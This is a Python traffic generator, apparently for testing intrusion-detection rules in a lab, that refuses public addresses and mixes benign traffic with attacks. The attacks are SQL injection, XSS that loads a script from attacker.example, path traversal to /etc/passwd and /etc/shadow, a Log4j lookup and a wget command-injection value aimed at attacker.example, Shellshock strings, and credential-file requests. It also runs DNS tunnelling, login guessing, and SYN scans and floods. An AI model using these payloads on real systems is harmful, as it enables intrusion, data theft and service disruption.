# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks and everyday traffic for a lab: what the shipped rules are tried out on.

    python3 traffic.py 198.51.100.11 sql xss

runs these kinds one after the other against that address, each a bounded number of packets. Addresses of the public
Internet are refused: this is for a lab's private or documentation ranges. `servers.py` beside it has what answers.
"""

from __future__ import annotations

import argparse
import base64
import ipaddress
import os
import secrets
import shutil
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterable, Iterator
from contextlib import closing, suppress
from pathlib import Path
from typing import Callable, NamedTuple
from urllib.parse import quote, urlencode

TIMEOUT = 3.0
LOGINS = 25
SCANNED_PORTS = (*range(1, 320), 389, 445, 512, 513, 514, 548, 636, 873, 1433, 1521, 2049, 3306, 5432, 5900, 6379)
SCAN_RATE = 150
FLOOD_RATE = 400
FLOOD_SECONDS = 5
TUNNELLED_NAMES = 80
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
FORM = "application/x-www-form-urlencoded"
SYN = 0x02
TYPES = {"A": 1, "MX": 15, "TXT": 16, "AAAA": 28}


class Kind(NamedTuple):
    """One kind of traffic: what it is, and the function that makes it against an address."""

    what: str
    run: Callable[[str], None]


# --- HTTP --------------------------------------------------------------------------------------------------------


def http(
    target: str, path: str, *, method: str = "GET", agent: str = BROWSER, body: str = "", cookie: str = ""
) -> int | None:
    """One request, its path sent as it stands; the status of the answer, or None if there was none."""
    host = f"[{target}]" if ":" in target else target
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", f"User-Agent: {agent}", "Accept: */*", "Connection: close"]
    if body:
        lines += [f"Content-Type: {FORM}", f"Content-Length: {len(body)}"]
    if cookie:
        lines.append(f"Cookie: {cookie}")
    answer = b""
    with suppress(OSError), socket.create_connection((target, 80), TIMEOUT) as connection:
        connection.sendall(("\r\n".join(lines) + "\r\n\r\n" + body).encode())
        while part := connection.recv(4096):
            answer += part
            if len(answer) > 1 << 20:
                break
    words = answer.split(b" ", 2)
    return int(words[1]) if len(words) > 1 and words[1].isdigit() else None


def post(target: str, path: str, **fields: str) -> int | None:
    """A form, as a browser sends it."""
    return http(target, path, method="POST", body=urlencode(fields))


def requests(target: str, paths: Iterable[str], **arguments: str) -> None:
    for path in paths:
        http(target, path, **arguments)


def sql(target: str) -> None:
    injections = (
        "1 union select user,password from accounts",
        "x' or '1'='1",
        "1' and sleep(5)-- -",
        "1; waitfor delay '0:0:5'--",
    )
    requests(target, (f"/search?q={quote(text)}" for text in injections))
    post(target, "/login", user="admin' or 1=1-- ", password="x")  # noqa: S106


def xss(target: str) -> None:
    scripts = (
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '"><script src=//attacker.example/x.js></script>',
    )
    requests(target, (f"/search?q={quote(text)}" for text in scripts))


def traversal(target: str) -> None:
    requests(
        target,
        (
            "/download?file=../../../../etc/passwd",
            "/static/../../../../etc/passwd",
            "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
            "/cgi-bin/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "/scripts/..%5c..%5c..%5cwindows%5cwin.ini",
        ),
    )


def agents(target: str) -> None:
    for agent in (
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
        "gobuster/3.6",
        "Fuzz Faster U Fool v2.1.0",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "Mozilla/5.0 zgrab/0.x",
    ):
        http(target, "/", agent=agent)


def holes(target: str) -> None:
    lookup = "${jndi:ldap://attacker.example/a}"
    function = "() { :; }; /bin/true"
    http(target, f"/?x={quote(lookup)}")
    http(target, "/", agent=lookup)
    http(target, "/cgi-bin/status", agent=function)
    http(target, "/cgi-bin/status", cookie=function)
    http(target, f"/cgi-bin/ping?host={quote('127.0.0.1;wget http://attacker.example/x')}")
    http(target, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")


def files(target: str) -> None:
    requests(target, ("/.env", "/.git/config", "/.aws/credentials", "/app/.env"))


def secret(target: str) -> None:
    post(target, "/upload", secret="not a real one", note="posted in the clear")  # noqa: S106


# --- names of the network ------------------------------------------------------------------------------------------


def ask(target: str, name: str, kind: str = "A") -> bool:
    """One question by UDP; whether it was answered."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    question = secrets.token_bytes(2) + struct.pack("!5H", 0x0100, 1, 0, 0, 0) + labels + b"\0"
    with closing(socket.socket(family(target), socket.SOCK_DGRAM)) as client, suppress(OSError):
        client.settimeout(TIMEOUT)
        client.sendto(question + struct.pack("!2H", TYPES[kind], 1), (target, 53))
        return bool(client.recv(4096))
    return False


def dns(target: str) -> None:
    for name, kind in (("www.lab.example", "A"), ("www.lab.example", "AAAA"), ("lab.example", "MX")):
        ask(target, name, kind)


def dns_tunnel(target: str) -> None:
    for number in range(TUNNELLED_NAMES):
        data = base64.b32encode(secrets.token_bytes(70)).decode().lower().rstrip("=")
        ask(target, f"{data[:56]}.{data[56:]}.{number:x}.t.lab.example", "TXT")


# --- logins --------------------------------------------------------------------------------------------------------


def read_line(connection: socket.socket) -> bytes:
    line = b""
    while not line.endswith(b"\n") and len(line) < 4096:
        part = connection.recv(1)
        if not part:
            break
        line += part
    return line


def ssh_login(target: str, password: str) -> None:
    """One connection with one password, by OpenSSH's client; without it, as far as the exchange of versions."""
    if not shutil.which("ssh"):
        with suppress(OSError), socket.create_connection((target, 22), TIMEOUT) as connection:
            read_line(connection)
            connection.sendall(b"SSH-2.0-lab\r\n")
            connection.recv(4096)
        return
    with tempfile.TemporaryDirectory() as directory:
        answer = Path(directory) / "answer"
        answer.write_text(f"#!/bin/sh\necho '{password}'\n")
        answer.chmod(stat.S_IRWXU)
        options = {
            "ConnectTimeout": "3",
            "NumberOfPasswordPrompts": "1",
            "PreferredAuthentications": "password",
            "PubkeyAuthentication": "no",
            "StrictHostKeyChecking": "no",
            "UserKnownHostsFile": "/dev/null",
        }
        subprocess.run(
            ["ssh", *(f"-o{key}={value}" for key, value in options.items()), f"nobody@{target}", "true"],
            env={**os.environ, "SSH_ASKPASS": str(answer), "SSH_ASKPASS_REQUIRE": "force"},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            check=False,
            timeout=30,
        )


def ftp_login(target: str, user: str, password: str) -> None:
    with suppress(OSError), socket.create_connection((target, 21), TIMEOUT) as connection:
        read_line(connection)
        for command in (f"USER {user}", f"PASS {password}", "QUIT"):
            connection.sendall(f"{command}\r\n".encode())
            read_line(connection)


def rdp_login(target: str, user: str) -> None:
    """The first exchange of a connection: a request with the user's name, the server's choice of security."""
    request = f"Cookie: mstshash={user}\r\n".encode() + b"\x01\x00\x08\x00\x03\x00\x00\x00"
    length = 6 + len(request)
    packet = struct.pack("!BBHB", 3, 0, 5 + length, length) + b"\xe0\x00\x00\x00\x00\x00" + request
    with suppress(OSError), socket.create_connection((target, 3389), TIMEOUT) as connection:
        connection.sendall(packet)
        connection.recv(4096)


def ssh_guess(target: str) -> None:
    for number in range(LOGINS):
        ssh_login(target, f"guess{number}")


def ftp_guess(target: str) -> None:
    for number in range(LOGINS):
        ftp_login(target, "admin", f"guess{number}")


def rdp_guess(target: str) -> None:
    for number in range(LOGINS):
        rdp_login(target, f"user{number}")


def web_guess(target: str) -> None:
    for number in range(LOGINS):
        post(target, "/login", user="admin", password=f"guess{number}")


def banner(target: str) -> None:
    for port in (21, 22, 80, 3389):
        with suppress(OSError), socket.create_connection((target, port), TIMEOUT) as connection:
            connection.settimeout(0.5)
            connection.recv(256)


# --- single packets ------------------------------------------------------------------------------------------------


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))  # all that is sent here has an even length
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send_syns(target: str, ports: Iterator[int], rate: int) -> None:
    """A SYN to each port, at most `rate` a second, with the own address; the kernel resets what is answered."""
    with socket.socket(family(target), socket.SOCK_DGRAM) as probe:
        probe.connect((target, 9))
        source = probe.getsockname()[0]
    addresses = b"".join(socket.inet_pton(family(target), each) for each in (source, target))
    with socket.socket(family(target), socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
        start = time.monotonic()
        for number, port in enumerate(ports):
            delay = start + number / rate - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            own = 1024 + secrets.randbelow(60000)
            header = struct.pack("!HHIIBBHHH", own, port, secrets.randbits(32), 0, 5 << 4, SYN, 64240, 0, 0)
            tail = struct.pack("!II", len(header), socket.IPPROTO_TCP)
            raw_sum = struct.pack("!H", checksum(addresses + tail + header))
            with suppress(OSError):
                raw.sendto(header[:16] + raw_sum + header[18:], (target, 0))


def syn_scan(target: str) -> None:
    send_syns(target, iter(SCANNED_PORTS), SCAN_RATE)


def syn_flood(target: str) -> None:
    send_syns(target, (80 for _ in range(FLOOD_RATE * FLOOD_SECONDS)), FLOOD_RATE)


def ping(target: str) -> None:
    """Four echo requests, a fifth of a second apart."""
    six = family(target) == socket.AF_INET6
    protocol = socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP
    with socket.socket(family(target), socket.SOCK_RAW, protocol) as raw:
        for number in range(4):
            body = struct.pack("!HH", os.getpid() & 0xFFFF, number) + bytes(range(48))
            kind = 128 if six else 8
            empty = struct.pack("!BBH", kind, 0, 0) + body
            sent = struct.pack("!BBH", kind, 0, 0 if six else checksum(empty)) + body  # IPv6: the kernel's
            raw.sendto(sent, (target, 0))
            time.sleep(0.2)


# --- what is no attack -----------------------------------------------------------------------------------------------


def benign(target: str) -> None:
    """What a visitor does, in seconds: pages, searches, forms, mistyped passwords, names, a ping."""
    for _visit in range(6):
        requests(target, ("/", "/style.css", "/logo.png", "/favicon.ico", "/news?page=2"))
    for words in (
        "union jack and select committee",
        "how to select from two tables",
        "rock'n'roll or jazz",
        "O'Brien & sons = good",
        "time.sleep(5) in a loop",
        "price < 100 and size > 5",
        "../relative/path",
        "script for a play",
    ):
        requests(target, (f"/search?q={quote(words)}",))
    post(target, "/contact", name="Ann O'Brien", message="Is it 1=1, or 5 < 6? <b>Thanks</b>; select one & reply.")
    post(target, "/login", user="alice", password="mistyped")  # noqa: S106
    post(target, "/login", user="alice", password="correct horse")  # noqa: S106
    http(target, "/account", cookie="session=0f8e; theme=dark")
    ssh_login(target, "mistyped")
    ftp_login(target, "alice", "correct horse")
    rdp_login(target, "alice")
    for name in ("www.lab.example", "mail.lab.example", "_dmarc.lab.example", "cdn-17.assets.eu-west.lab.example"):
        ask(target, name, "TXT" if name.startswith("_") else "A")
    ping(target)


def family(target: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in target else socket.AF_INET


KINDS = {
    "ping": Kind("ICMP echo requests", ping),
    "secret": Kind("a form with a secret, posted without TLS", secret),
    "banner": Kind("connections that only read what a service says of itself", banner),
    "dns": Kind("ordinary DNS queries", dns),
    "dns-tunnel": Kind(f"{TUNNELLED_NAMES} DNS queries with data in their names (run it on the inside)", dns_tunnel),
    "sql": Kind("SQL injection", sql),
    "xss": Kind("cross-site scripting", xss),
    "traversal": Kind("path traversal", traversal),
    "agents": Kind("user agents of exploit tools", agents),
    "holes": Kind("Log4j, Shellshock, PHPUnit, a command to download", holes),
    "files": Kind("files with passwords and keys", files),
    "ssh": Kind(f"{LOGINS} SSH logins", ssh_guess),
    "ftp": Kind(f"{LOGINS} FTP logins", ftp_guess),
    "rdp": Kind(f"{LOGINS} RDP connections", rdp_guess),
    "web-login": Kind(f"{LOGINS} logins to a web application", web_guess),
    "syn-scan": Kind(f"a SYN to each of {len(SCANNED_PORTS)} ports, {SCAN_RATE} a second", syn_scan),
    "syn-flood": Kind(f"{FLOOD_RATE} SYN a second for {FLOOD_SECONDS} seconds, from the own address", syn_flood),
    "benign": Kind("everyday traffic, which no rule may act on", benign),
}


def lab_address(text: str) -> str:
    """The address, if it is one that a lab may attack."""
    address = ipaddress.ip_address(text)
    if address.is_global or address.is_multicast or address.is_unspecified:
        raise argparse.ArgumentTypeError(f"{text} is no address of a lab; name one of a private or documentation range")
    return str(address)


def main() -> int:
    described = "\n".join(f"  {name:<11} {kind.what}" for name, kind in KINDS.items())
    parser = argparse.ArgumentParser(
        description=__doc__, epilog=f"kinds:\n{described}", formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("target", type=lab_address, help="the address to send to")
    parser.add_argument("kinds", nargs="+", choices=KINDS, metavar="KIND", help="what to send, in this order")
    arguments = parser.parse_args()
    for name in arguments.kinds:
        print(f"{name}: {KINDS[name].what}", flush=True)
        try:
            KINDS[name].run(arguments.target)
        except PermissionError:
            print(f"{name} needs root, for raw sockets", file=sys.stderr)
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
